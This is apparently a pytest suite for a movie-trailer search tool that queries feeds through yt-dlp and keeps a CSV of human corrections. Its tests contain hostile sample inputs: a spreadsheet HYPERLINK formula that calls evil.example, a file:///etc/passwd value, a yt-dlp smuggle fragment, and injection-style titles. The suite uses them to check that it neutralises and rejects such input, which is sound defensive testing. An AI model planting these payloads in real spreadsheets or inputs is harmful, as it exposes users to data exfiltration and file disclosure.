"""The search with yt-dlp on feeds from loopback, scores, and a person's corrections."""

import csv
import re
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit
from xml.sax.saxutils import escape, quoteattr

import pytest

from trailers12k.common import text
from trailers12k.common.errors import Failure, UserError
from trailers12k.common.files import read_csv, write_csv
from trailers12k.downloads.retries import yt_dlp_version
from trailers12k.jobs.runner import never
from trailers12k.movies.sources import search, trailer_choices
from trailers12k.movies.sources.records import Record, check, combine
from trailers12k.movies.sources.services import ServiceJob
from trailers12k.movies.sources.trailer_choices import corrections

MID, OTHER, THIRD = "tt0000001", "tt0000002", "tt0000003"
HEAD = '<?xml version="1.0"?><rss version="2.0" xmlns:itunes='
HEAD += '"http://www.itunes.com/dtds/podcast-1.0.dtd"><channel>'


def feed(*items):
    """RSS of (title, address) or (title, address, duration)."""
    body = "".join(
        f"<item><title>{escape(title)}</title><enclosure url={quoteattr(address)}/><guid>g</guid>"
        f"<itunes:duration>{''.join(duration)}</itunes:duration></item>"
        for title, address, *duration in items
    )
    return f"{HEAD}{body}</channel></rss>".encode()


class Web:
    def __init__(self):
        self.answers, self.queries, self.agents = {}, [], set()

    def answer(self, query):
        """A feed, or the number of an HTTP error."""
        return next((value for title, value in self.answers.items() if title in query), feed())


@pytest.fixture
def web():
    web = Web()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            query = parse_qs(urlsplit(self.path).query)["q"][0]
            web.queries.append(query)
            web.agents.add(self.headers["User-Agent"])
            answer = web.answer(query)
            if isinstance(answer, int):
                self.send_error(answer)
                return
            self.send_response(200)
            self.send_header("Content-Type", "application/rss+xml")
            self.send_header("Content-Length", str(len(answer)))
            self.end_headers()
            self.wfile.write(answer)

        def log_message(self, *args):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True).start()
        web.url = f"http://127.0.0.1:{server.server_port}/search?n={{count}}&q={{query}}"
        yield web
        server.shutdown()


def read(web, folder, *movies, retry=never, retries=0, **changed):
    settings = {
        "address": web.url,
        "candidates": 5,
        "least_score": 0.6,
        "choices": folder / "choices.csv",
        "pause": [0, 0],
    }
    service = ServiceJob(folder / "search", retries, timeout=5, retry=retry)
    records, rows = search.read(settings | changed, {one.mid: one for one in movies}, service)
    return {record.mid: record for record in records}, {row["mid"]: row for row in rows}


def movie(mid=MID, title="Paper Moon", year="1973", **more):
    return Record(mid, title, year, **more)


def write_choices(path, *rows):
    write_csv(path, trailer_choices.COLUMNS, rows)


GOOD = ("Paper Moon (1973) Official Trailer", "http://a.example/good.mp4", "2:28")
FAIR = ("Paper Moon - Trailer", "http://a.example/fair.mp4", "1:00")
BAD = ("Paper Moon trailer reaction", "http://a.example/bad.mp4", "9:00")


def test_the_best_candidate_is_the_trailer_and_others_follow(web, tmp_path):
    web.answers["Paper Moon"] = feed(BAD, FAIR, GOOD)
    earlier = {MID: movie(), OTHER: movie(OTHER, trailers=({"id": "aaaaaaaaaaa"},))}
    records, rows = read(web, tmp_path, *earlier.values())
    assert web.queries == ["Paper Moon (1973) official trailer"]
    assert list(rows) == [MID] and rows[MID]["status"] == "ok"
    assert rows[MID]["tool"] == yt_dlp_version()
    first, second = records[MID].trailers
    assert first == {"url": GOOD[1], "name": GOOD[0], "channel": "", "score": 0.95}
    assert second["url"] == FAIR[1]
    combine(earlier, "search", records.values(), adds=False)
    assert earlier[MID].trailers[0]["url"] == GOOD[1]
    table = read_csv(tmp_path / "choices.csv")
    assert [(row["mid"], row["chosen"], row["rank"]) for row in table] == [
        (MID, "yes", "3"),
        (MID, "", "2"),
        (MID, "", "1"),
    ]
    assert list(table[0]) == trailer_choices.COLUMNS
    assert table[0]["why"] == "title 1, year, official, trailer, 148 s"
    assert (table[0]["score"], table[0]["duration"]) == ("0.95", "148")
    assert all("trailers12k" in agent for agent in web.agents)


def test_a_search_is_repeated_only_for_another_question(web, tmp_path):
    web.answers["Paper Moon"] = feed(FAIR, GOOD)
    first = read(web, tmp_path, movie())
    choices = tmp_path / "choices.csv"
    written = choices.stat().st_mtime_ns
    assert read(web, tmp_path, movie()) == first
    assert choices.stat().st_mtime_ns == written, "the same table is not written again"
    records, rows = read(web, tmp_path, movie(), least_score=0.99)
    assert records == {} and rows[MID]["reason"] == "no_trailer_found"
    assert rows[MID]["detail"] == "the best score is 0.95, least_score 0.99"
    assert {row["chosen"] for row in read_csv(choices)} == {""}
    assert len(read(web, tmp_path, movie(), least_score=0.9)[0][MID].trailers) == 1
    assert len(web.queries) == 1
    read(web, tmp_path, movie(year="1974"))
    read(web, tmp_path, movie(year="1974"), candidates=1)
    assert len(web.queries) == 3 and len(read_csv(choices)) == 1


@pytest.mark.parametrize("content", [b"", b"\0" * 9, b"[" * 10**5, b"{}", b"[5]", b"\xff"])
def test_a_damaged_answer_counts_as_none(web, tmp_path, content):
    web.answers["Paper Moon"] = feed(GOOD)
    first, _ = read(web, tmp_path, movie())
    answer = tmp_path / "search" / f"{MID}.answer.json"
    answer.write_bytes(content)
    assert read(web, tmp_path, movie())[0] == first
    assert len(web.queries) == 2
    # A correction needs no answer.
    answer.write_bytes(content)
    write_choices(tmp_path / "choices.csv", {"mid": MID, "correction": "none"})
    records, rows = read(web, tmp_path, movie())
    assert records == {} and rows[MID]["reason"] == "corrected_to_none"


def test_a_search_without_a_good_candidate_is_repeated_when_due(web, tmp_path):
    web.answers["Paper Moon"] = feed(BAD)
    rows_before = []

    def retry(row, tried):
        rows_before.append(row)
        return row.get("reason") == "no_trailer_found"

    _, rows = read(web, tmp_path, movie(), retry=retry)
    assert (rows[MID]["reason"], rows[MID]["attempts"]) == ("no_trailer_found", 1)
    web.answers["Paper Moon"] = feed(GOOD)
    _, rows = read(web, tmp_path, movie(), retry=retry)
    assert rows_before[0]["status"] == "failed"
    assert (rows[MID]["status"], rows[MID]["attempts"]) == ("ok", 2)
    read(web, tmp_path, movie(), retry=retry)
    assert len(web.queries) == 2


@pytest.mark.parametrize(
    ("answer", "reason"),
    [
        (404, "unavailable"),
        (500, "server_error"),
        (feed(), "no_trailer_found"),
        (b"<html>no list</html>", "bad_id"),
        (b"\x00\x01 of no kind", "bad_answer"),
        (feed(("T", "http://[")), "extractor_broken"),
        (feed(("T", "http://a.example/#__youtubedl_smuggle=x")), "extractor_broken"),
    ],
)
def test_a_search_without_results_is_a_failure_and_a_row_to_correct(web, tmp_path, answer, reason):
    web.answers = {"Paper Moon": answer, "Other": feed(("Other Trailer", "http://a.example/o"))}
    records, rows = read(web, tmp_path, movie(), movie(OTHER, "Other"))
    assert rows[MID]["status"] == "failed" and rows[MID]["reason"] == reason
    assert list(records) == [OTHER], "the job continues"
    first = read_csv(tmp_path / "choices.csv")[0]
    assert (first["mid"], first["title"], first["chosen"]) == (MID, "Paper Moon", "")


def test_a_rate_limit_stops_the_search_and_the_next_run_continues(web, tmp_path):
    web.answers = {"Paper Moon": 429, "Other": feed(("Other Trailer", "http://a.example/o"))}
    movies = movie(), movie(OTHER, "Other")
    records, rows = read(web, tmp_path, *movies)
    assert rows[MID]["reason"] == "rate_limited"
    assert rows[OTHER]["status"] == "skipped" and rows[OTHER]["reason"] == "stopped"
    assert records == {} and len(web.queries) == 1
    assert list(read(web, tmp_path, *movies)[0]) == [OTHER]


def test_an_answer_to_an_earlier_question_is_not_used(web, tmp_path):
    web.answers["Paper Moon"] = feed(GOOD)
    read(web, tmp_path, movie())
    web.answers["Paper Moon"] = 500
    records, rows = read(web, tmp_path, movie(year="1974"))
    assert records == {} and rows[MID]["reason"] == "server_error"


@pytest.mark.parametrize("title", ["Captcha", "Private Video", "Blocked it in your Country?"])
def test_words_of_a_title_are_not_taken_for_a_reason(web, tmp_path, title):
    web.answers[title] = 404
    _, rows = read(web, tmp_path, movie(title=title))
    assert rows[MID]["reason"] == "unavailable"


@pytest.mark.parametrize(
    "title",
    [
        "{query} {count}",
        "%(id)s",
        "\"a\" 'b' & <c> #d?e=f/..",
        "é 千",
        "a\nb\x00c\ud800",
        "ytsearch",
    ],
)
def test_a_hostile_title_is_searched_for_literally(web, tmp_path, title, monkeypatch):
    monkeypatch.chdir(tmp_path)
    _, rows = read(web, tmp_path, movie(title=title))
    plain = title.replace("\n", " ").replace("\x00", "").replace("\ud800", "")
    assert web.queries == [f"{plain} (1973) official trailer"]
    assert rows[MID]["reason"] == "no_trailer_found"
    assert {path.name for path in tmp_path.iterdir()} == {"choices.csv", "search"}


def test_youtube_is_searched_through_yt_dlp_with_the_literal_title(web, tmp_path, monkeypatch):
    from yt_dlp.extractor.youtube import YoutubeSearchIE

    queries = []

    def results(self, query):
        queries.append(query)
        for n in range(10):
            more = {"duration": 148, "channel": "A Studio", "view_count": n}
            title = f"Paper: {{count}} & Moon {n} trailer"
            yield self.url_result("https://x.example", "Youtube", f"{n}bcdefghijk", title, **more)

    monkeypatch.setattr(YoutubeSearchIE, "_search_results", results)
    title = "Paper: {count} & Moon 3"
    default = "ytsearch{count}:{query}"
    records, _ = read(web, tmp_path, movie(title=title), address=default)
    assert queries == [f"{title} (1973) official trailer"] and web.queries == []
    assert records[MID].trailers[0] == {
        "id": "3bcdefghijk",
        "name": f"{title} trailer",
        "channel": "A Studio",
        "score": 0.8,
    }
    table = read_csv(tmp_path / "choices.csv")
    assert [row["rank"] for row in table] == ["4", "2", "1", "3", "5"]
    assert table[0]["address"] == "https://www.youtube.com/watch?v=3bcdefghijk"


def test_there_is_a_pause_between_two_searches(web, tmp_path):
    began = time.monotonic()
    read(web, tmp_path, movie(), movie(OTHER), pause=[0.4, 0.4])
    first = time.monotonic() - began
    assert 0.4 <= first < 5 and len(web.queries) == 2
    slept = []
    client = search._Client(
        search.SearchSettings("", 5, 0.6, "choices.csv", [10, 10]), ServiceJob(tmp_path, 0, 5)
    )
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(time, "sleep", slept.append)
        patch.setattr(client, "_new", lambda: None)
        for _ in range(3):
            with pytest.raises(Failure):
                client.candidates("a")
            client.client = object()
    assert slept == [10, 10], "no pause before the first search"


def test_a_search_is_repeated_at_once_when_the_server_is_busy(web, tmp_path, monkeypatch):
    slept = []
    monkeypatch.setattr(time, "sleep", slept.append)
    web.answer = lambda query: 503 if len(web.queries) < 3 else feed(GOOD)
    records, rows = read(web, tmp_path, movie(), retries=2)
    assert rows[MID]["status"] == "ok" and records[MID].trailers
    assert slept == [1, 2]


def test_a_movie_without_a_title_is_not_searched_for(web, tmp_path):
    _, rows = read(web, tmp_path, movie(title=""))
    assert rows[MID] == {"mid": MID, "status": "skipped", "reason": "no_title"}
    assert web.queries == []
    read(web, tmp_path, movie(year=""))
    assert web.queries == ["Paper Moon official trailer"]


@pytest.mark.parametrize(
    ("correction", "trailers"),
    [
        ("abcdefghijk", ({"id": "abcdefghijk"},)),
        ("'-bcdefghijk", ({"id": "-bcdefghijk"},)),
        (" https://b.example/x.mp4 ", ({"url": "https://b.example/x.mp4"},)),
        (FAIR[1], ({"url": FAIR[1]},)),
        ("none", ()),
    ],
)
def test_a_correction_applies_in_any_row_and_stays(web, tmp_path, correction, trailers):
    web.answers["Paper Moon"] = feed(GOOD, FAIR)
    read(web, tmp_path, movie())
    choices = tmp_path / "choices.csv"
    table = read_csv(choices)
    table[1]["correction"] = correction
    write_choices(choices, *table)
    for _ in range(2):
        records, rows = read(web, tmp_path, movie())
        assert (records[MID].trailers if MID in records else ()) == trailers
        reason = "corrected" if trailers else "corrected_to_none"
        assert rows[MID] == {"mid": MID, "status": "skipped", "reason": reason}
        table = read_csv(choices)
        assert [row["correction"] for row in table] == [correction.strip(), ""]
        assert [row["address"] for row in table] == [GOOD[1], FAIR[1]]
        assert [row["chosen"] for row in table] == ["", "yes" if correction == FAIR[1] else ""]
    assert len(web.queries) == 1
    for record in records.values():
        check(record)


def test_a_correction_may_precede_the_search_and_be_withdrawn(web, tmp_path):
    web.answers["Paper Moon"] = feed(GOOD)
    choices = tmp_path / "choices.csv"
    write_choices(choices, {"mid": MID, "correction": "abcdefghijk"})
    records, _ = read(web, tmp_path, movie())
    assert records[MID].trailers == ({"id": "abcdefghijk"},) and web.queries == []
    write_choices(choices, *({**row, "correction": ""} for row in read_csv(choices)))
    assert read(web, tmp_path, movie())[0][MID].trailers[0]["url"] == GOOD[1]


def test_corrections_of_other_movies_stay(web, tmp_path):
    web.answers["Paper Moon"] = feed(GOOD)
    choices = tmp_path / "choices.csv"
    far = [
        {"mid": OTHER, "title": "Far", "rank": "1", "candidate": "Far trailer"},
        {"mid": OTHER, "title": "Far", "rank": "2", "correction": "none"},
    ]
    write_choices(choices, *far, {"mid": THIRD, "title": "Not corrected"})
    records, rows = read(web, tmp_path, movie(), movie(OTHER, trailers=({"id": "aaaaaaaaaaa"},)))
    assert list(records) == list(rows) == [MID]
    table = read_csv(choices)
    assert [row["mid"] for row in table] == [MID, OTHER, OTHER]
    assert [{name: row[name] for name in row if row[name]} for row in table[1:]] == far


def test_a_correction_made_during_the_search_is_kept(web, tmp_path):
    choices = tmp_path / "choices.csv"

    def answer(query):
        write_choices(choices, {"mid": MID, "correction": "abcdefghijk"})
        return feed(GOOD)

    web.answer = answer
    records, rows = read(web, tmp_path, movie())
    assert records[MID].trailers == ({"id": "abcdefghijk"},)
    assert rows[MID] == {"mid": MID, "status": "skipped", "reason": "corrected"}
    assert corrections(choices) == {MID: "abcdefghijk"}
    assert read_csv(choices)[0]["candidate"] == GOOD[0]


def test_a_file_saved_by_a_spreadsheet_is_read_and_not_rewritten(web, tmp_path):
    web.answers["Paper Moon"] = feed(GOOD, FAIR)
    read(web, tmp_path, movie())
    choices = tmp_path / "choices.csv"
    saved = b"\xef\xbb\xbf" + choices.read_bytes().replace(b"\n", b"\r\n")
    choices.write_bytes(saved)
    read(web, tmp_path, movie())
    assert choices.read_bytes() == saved


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
def test_no_text_in_the_file_is_a_formula(web, tmp_path, sign):
    hostile = f'{sign}HYPERLINK("http://evil.example?"&A1;"Paper Moon trailer")'
    web.answers["1+1"] = feed(
        (hostile, "http://a.example/x"), ("\t" + hostile, "http://a.example/y")
    )
    write_choices(tmp_path / "choices.csv", {"mid": OTHER, "correction": "-bcdefghijk"})
    read(web, tmp_path, movie(title=f"{sign}1+1"), movie(OTHER))
    for _ in range(2):
        with (tmp_path / "choices.csv").open(encoding="utf-8", newline="") as file:
            table = list(csv.reader(file))
        cells = [cell for row in table for cell in row]
        assert f"'{hostile}" in cells and f"'{sign}1+1" in cells and "'-bcdefghijk" in cells
        assert not [cell for cell in cells if cell.lstrip()[:1] in text.FORMULA]
        read(web, tmp_path, movie(title=f"{sign}1+1"), movie(OTHER))


def test_corrections_are_read_without_importing_anything_heavy(tmp_path):
    assert corrections(tmp_path / "none.csv") == {}
    code = "import sys; from trailers12k.movies.sources import search; print(*sys.modules)"
    loaded = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True).stdout
    assert "trailers12k.movies.sources.search" in loaded
    assert not {"yt_dlp", "requests", "urllib3", "numpy", "pandas"} & set(loaded.split())


def test_many_corrections_are_read_quickly(tmp_path):
    rows = [{"mid": f"tt{n // 5:07d}", "correction": "none"} for n in range(60_000)]
    write_choices(tmp_path / "choices.csv", *rows)
    began = time.process_time()
    assert len(corrections(tmp_path / "choices.csv")) == 12_000
    assert time.process_time() - began < 3


HEADER = ",".join(trailer_choices.COLUMNS) + "\n"
LINE = f"{MID},T,2000,%s,,,,,,,,\n"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (HEADER + LINE % "short", ", line 2: correction: 'short' is not allowed; allowed: a You"),
        (HEADER + LINE % "None", "correction: 'None'"),
        (HEADER + LINE % "https://u:secret@a.example/", "without a password"),
        (HEADER + LINE % "http://", "correction: 'http://'"),
        (HEADER + LINE % "file:///etc/passwd", "correction: 'file:///etc/passwd'"),
        (HEADER + LINE % "x.mp4", "correction: 'x.mp4'"),
        (HEADER + LINE % '"a\nb"', r"correction: 'a\nb'"),
        (HEADER + LINE % "" + LINE.replace(MID, "tt12") % "", ", line 3: mid: 'tt12' is not allo"),
        (HEADER + LINE % "none" + LINE % "abcdefghijk", ", line 3: correction: 'abcdefghijk', and"),
        (HEADER + "tt0000001,T\n", ", line 2: the number of columns is not 12"),
        (HEADER + LINE.replace(",,", ",,,") % "", ", line 2: the number of columns is not 12"),
        (HEADER.replace("correction,", "") + LINE, "the column 'correction' is missing; required"),
        (HEADER.replace(",", ";"), "the column 'mid' is missing"),
        (HEADER.replace("address", "address,notes"), "the column 'notes' is unknown"),
        ("", "the column 'mid' is missing"),
        (HEADER + '"', "not a CSV file"),
        (HEADER.encode() + b"\xe9", "is not UTF-8"),
        (None, "is a folder; allowed: a file"),
    ],
)
def test_an_invalid_file_is_reported_in_one_line_and_stays(web, tmp_path, content, message):
    path = tmp_path / "choices.csv"
    if content is None:
        path.mkdir()
    else:
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
    for ask in (lambda: corrections(path), lambda: read(web, tmp_path, movie())):
        with pytest.raises(UserError) as error:
            ask()
        assert str(error.value).startswith(str(path)) and message in str(error.value)
        assert "\n" not in str(error.value) and re.search("allowed: |required: ", str(error.value))
        assert "secret" not in str(error.value)
    assert web.queries == []
    assert content is None or path.read_bytes().decode("latin-1") == (
        content if isinstance(content, str) else content.decode("latin-1")
    )
